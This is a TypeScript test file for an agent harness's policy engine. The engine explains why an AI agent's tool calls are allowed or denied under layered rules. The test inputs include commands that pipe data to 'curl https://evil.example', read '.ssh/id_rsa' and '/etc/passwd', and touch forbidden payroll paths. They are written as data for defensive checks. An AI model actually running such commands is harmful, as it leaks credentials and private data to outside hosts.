// The words of an explanation.
import { describe, expect, it } from 'vitest';
import type { ToolEvent } from '@agent-harness/contracts';
import { decide } from '../decide/decide.ts';
import { normalise } from '../event/normalise.ts';
import { composePolicy } from '../policy/compose-policy.ts';
import { exception, levelsOf, ownRule } from '../policy/levels/levels.fixture.ts';
import {
  asked,
  plainContext,
  ran,
  readingCommands,
  readingPolicy,
} from '../policy/reading-policy.fixture.ts';
import { explainDecision } from './explain-decision.ts';

const explain = (event: ToolEvent, policy = readingPolicy()) =>
  explainDecision(event, decide(event, policy, plainContext), policy);

it('tells the parse, the paths, the hosts and every layer', () => {
  const event = ran('X=1 cat "$Y" a | curl https://evil.example');
  const text = explain(event);
  expect(text).toMatchInlineSnapshot(`
    "Bash (PreToolUse) in /workspace: denied
    commands
      X=1 cat (dynamic: "$Y") "a"
      curl "https://evil.example"
    paths
      read /workspace/a  (from a)
    hosts
      evil.example  (from https://evil.example)
    verdicts
      L1 deny shell.environment: this variable changes which programs run, or what they do behind their command line
         level: shipped rules
         because of: "X"
         instead: run the command without it
      L1 deny family.network-client: this program exists to talk to other hosts
         level: shipped rules
         because of: "curl"
         instead: work with what is in the repository; say in the output what was missing
      L2 deny path.dynamic: a path is computed, so it could lead anywhere
         level: shipped rules
         because of: "\\"$Y\\""
         instead: write the path out
      L3 deny egress.unlisted-host: this host is none of those that may be reached here
         level: problem space tests
         because of: "evil.example", "https://evil.example"
         instead: work with what is in the repository; name the missing source in the output
         granted: none
      L4 allow
      L5 allow"
  `);
});

it('tells what could not be understood', () => {
  const event = ran('echo "');
  expect(explain(event)).toContain('not understood\n  syntax: ');
});

describe('each refusal', () => {
  const space = {
    name: 'tests',
    tools: ['Bash', 'Read'],
    commands: readingCommands,
    read: ['/workspace'],
    write: ['/out'],
    hosts: [],
  };
  const policy = composePolicy(
    space,
    levelsOf(
      { rules: [ownRule()], forbid: { commands: [{ name: 'rg' }] }, exceptions: [exception()] },
      { forbid: { read: ['/workspace/payroll'] } },
    ),
  );
  it.each([
    ['terraform apply', 'organisation acme, owner security'],
    ['rg x', 'organisation acme, owner security'],
    ['cat payroll/a', 'project shop, owner ada'],
    ['frobnicate', 'problem space tests'],
    ['cat .ssh/id_rsa', 'shipped rules'],
  ])('%s: %s', (command, level) => {
    expect(explain(ran(command), policy)).toContain(`     level: ${level}\n`);
  });
  it('tells what would pass, the nearest first', () => {
    expect(explain(ran('git lo'), policy)).toMatch(/granted: git log, /u);
    expect(explain(ran('greb x'), policy)).toMatch(/granted: grep, /u);
    expect(explain(asked('Write', { file_path: '/out/a', content: '' }), policy)).toContain(
      'granted: Bash, Read',
    );
    expect(explain(asked('Read', { file_path: '/etc/passwd' }), policy)).toContain('granted: /workspace');
    expect(explain(ran('curl https://a.example'), policy)).toContain('granted: none');
  });
  it('names the exception that lets a call pass', () => {
    const { name, words } = exception().where as { name: string; words: string[] };
    expect(explain(ran([name, ...words].join(' ')), policy)).toContain(
      'L1 allow command.subcommand: the exception mirror of security lets it pass until 2026-12-31',
    );
  });
});

describe('every kind of hook event', () => {
  it.each(
    'UserPromptSubmit PreToolUse PermissionRequest PostToolUse PostToolUseFailure PostToolBatch SessionStart SessionEnd SubagentStart SubagentStop InstructionsLoaded ConfigChange Stop SomethingNew'.split(
      ' ',
    ),
  )('%s can be explained', (hook_event_name) => {
    const event = normalise({
      hook_event_name,
      session_id: 's',
      cwd: '/workspace',
      prompt: 'Write.',
      tool_name: 'Bash',
      tool_use_id: 't',
      tool_input: { command: 'ls' },
      tool_response: { stdout: 'a' },
      error: 'none',
      file_path: '/workspace/CLAUDE.md',
    });
    expect(explain(event)).toMatch(/verdicts\n {2}L1 /u);
  });
});
